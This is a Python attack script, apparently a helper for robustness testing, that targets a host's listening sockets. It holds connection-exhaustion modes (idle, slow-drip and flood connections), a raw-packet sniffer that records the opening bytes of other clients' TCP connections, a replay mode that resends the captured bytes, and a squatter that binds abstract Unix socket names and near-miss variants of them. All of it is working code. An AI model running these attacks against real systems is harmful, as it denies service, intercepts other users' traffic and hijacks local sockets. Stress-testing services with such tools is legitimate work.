"""Attacks on all listening sockets of a host: attack.py UID KIND [ARGUMENTS]. Prints "attacking", and runs until killed.

silent ADDRESS COUNT PORT...   COUNT connections that send nothing, opened again when they are closed
slow ADDRESS PORT...           connections that send a byte every second
flood ADDRESS PORT...          connections that send rubbish and close, one after the other
replay ADDRESS FILE PORT...    the recorded first bytes of other connections, again and again
record FILE                    records the first bytes of clients' connections over this host's link
squat                          binds all abstract names in use, and names that differ from them in one digit
"""
import os, socket, struct, sys, time


def say_attacking():
    print("attacking", flush=True)


def dial(address, port):
    link = socket.socket()
    link.setblocking(False)
    link.connect_ex((address, port))
    return link


def is_open(link):
    try:
        return link.recv(4096, socket.MSG_DONTWAIT) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def hold(address, ports, count, byte):
    places = [ports[number % len(ports)] for number in range(count)]
    links = [dial(address, port) for port in places]
    say_attacking()
    while True:
        time.sleep(1)
        for number, link in enumerate(links):
            try:
                if byte:
                    link.send(byte)
            except BlockingIOError:
                pass
            except OSError:
                pass
            if not is_open(link):
                link.close()
                links[number] = dial(address, places[number])


def speak(address, ports, sayings):
    say_attacking()
    number = 0
    while True:
        number += 1
        try:
            with socket.socket() as link:
                link.settimeout(1)
                link.connect((address, ports[number % len(ports)]))
                link.sendall(sayings[number % len(sayings)])
        except OSError:
            pass
        time.sleep(0.0005)


def record(path):
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
    link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
    opened, heard = set(), {}
    with open(path, "wb", 0) as out:
        say_attacking()
        while True:
            frame = link.recv(1 << 17)
            if frame[12:14] != b"\x08\x00" or frame[23] != 6:
                continue
            ip = frame[14:]
            tcp = ip[(ip[0] & 15) * 4:struct.unpack(">H", ip[2:4])[0]]
            flow, said = ip[12:20] + tcp[:4], tcp[(tcp[12] >> 4) * 4:]
            if tcp[13] & 0x12 == 0x02:
                opened.add(flow)
            elif flow in opened and said:
                opened.discard(flow)
                out.write(struct.pack(">H", len(said)) + said)


def recorded(path):
    data, sayings = open(path, "rb").read(), []
    while data:
        length = struct.unpack(">H", data[:2])[0]
        sayings.append(data[2:2 + length])
        data = data[2 + length:]
    return sayings


def squat():
    bound = {}
    say_attacking()
    while True:
        names = [line.split()[-1][1:] for line in open("/proc/net/unix") if line.split()[-1].startswith("@")]
        for name in names:
            for wanted in [name] + [name[:-1] + digit for digit in "0123456789abcdef"]:
                if wanted not in bound and len(bound) < 900:
                    taken = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
                    try:
                        taken.bind("\0" + wanted)
                        bound[wanted] = taken
                    except OSError:
                        taken.close()
        time.sleep(0.05)


uid, kind, words = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
if uid:
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
numbers = lambda words: [int(word) for word in words]
if kind == "silent":
    hold(words[0], numbers(words[2:]), int(words[1]), b"")
elif kind == "slow":
    hold(words[0], numbers(words[1:]), 40, b"\x42")
elif kind == "flood":
    speak(words[0], numbers(words[1:]), [b"GET / HTTP/1.1\r\n\r\n", bytes(48), b"\xff" * 5000, b""])
elif kind == "replay":
    speak(words[0], numbers(words[2:]), recorded(words[1]))
elif kind == "record":
    record(words[0])
elif kind == "squat":
    squat()
else:
    sys.exit(__doc__)
